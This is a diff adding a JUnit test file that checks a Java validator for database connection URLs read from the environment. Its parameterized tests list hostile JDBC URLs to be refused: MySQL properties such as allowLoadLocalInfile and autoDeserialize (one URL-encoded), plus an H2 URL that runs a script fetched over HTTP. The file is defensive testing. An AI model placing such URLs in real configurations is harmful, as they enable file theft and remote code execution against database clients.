@@ -1,0 +1,92 @@
+package org.suping.evidence.store;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.suping.findings.BlockedException;
+import org.suping.vocabulary.ExitCode;
+
+/** Which servers the environment may name. */
+class BookServerTest {
+
+    private static final String SECRET = "s3cret";
+
+    @Test
+    void is_none_when_the_environment_names_none() {
+        assertThat(BookServer.from(Map.of())).isEmpty();
+    }
+
+    @Test
+    void is_named_with_harmless_properties() {
+        assertThat(BookServer.from(
+                        environment("jdbc:mysql://db.example:3306/suping?sslMode=VERIFY_CA&connectTimeout=500")))
+                .hasValueSatisfying(server -> assertThat(server).hasToString("db.example:3306/suping"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "jdbc:mysql://db/suping?allowLoadLocalInfile=true",
+                "jdbc:mysql://db/suping?sslMode=DISABLED&autoDeserialize=true",
+                "jdbc:mysql://db/suping?%61utoDeserialize=true",
+                "jdbc:mysql://db/suping?queryInterceptors=x",
+                "jdbc:mysql://db/suping?user=root",
+                "jdbc:mysql://db/suping?"
+            })
+    void refuses_properties_that_can_do_more_than_connect(String url) {
+        assertThatThrownBy(() -> BookServer.from(environment(url)))
+                .isInstanceOfSatisfying(BlockedException.class, refused -> {
+                    assertThat(refused.exitCode()).isEqualTo(ExitCode.WRONG_USAGE);
+                    assertThat(refused.findings().get(0).code()).isEqualTo("BOOK-03");
+                })
+                .hasMessageContaining("is not allowed");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://example/x.sql'",
+                "jdbc:mysql://(host=db,autoDeserialize=true)/suping",
+                "jdbc:mysql://address=(host=db)/suping",
+                "jdbc:mysql://root:s3cret@db/suping",
+                "jdbc:mysql:loadbalance://db/suping",
+                "jdbc:mysql://db",
+                "db"
+            })
+    void refuses_other_forms_without_showing_them(String url) {
+        assertThatThrownBy(() -> BookServer.from(environment(url)))
+                .isInstanceOfSatisfying(
+                        BlockedException.class,
+                        refused -> assertThat(refused.findings().get(0).code()).isEqualTo("BOOK-02"))
+                .hasMessageStartingWith("SUPING_BOOK_URL  the variable is missing or not in this form")
+                .hasMessageNotContaining(url);
+    }
+
+    @Test
+    void wants_an_account() {
+        assertThatThrownBy(() -> BookServer.from(Map.of(BookServer.URL, "jdbc:mysql://db/suping")))
+                .hasMessageStartingWith("SUPING_BOOK_USER  the variable is missing");
+    }
+
+    @Test
+    void that_does_not_answer_is_a_finding_without_the_password() {
+        BookServer server = BookServer.from(environment("jdbc:mysql://127.0.0.1:1/suping?connectTimeout=500"))
+                .orElseThrow();
+        assertThatThrownBy(server::connect)
+                .isInstanceOfSatisfying(
+                        BlockedException.class,
+                        refused -> assertThat(refused.exitCode()).isEqualTo(ExitCode.STORE_FAILED))
+                .hasMessage("127.0.0.1:1/suping  the database server cannot be reached. a server that runs, with this"
+                        + " host, port and database. check server and network, then run again; nothing that was done is"
+                        + " lost")
+                .hasStackTraceContaining("Communications link failure");
+    }
+
+    private static Map<String, String> environment(String url) {
+        return Map.of(BookServer.URL, url, BookServer.USER, "suping", BookServer.PASSWORD, SECRET);
+    }
+}
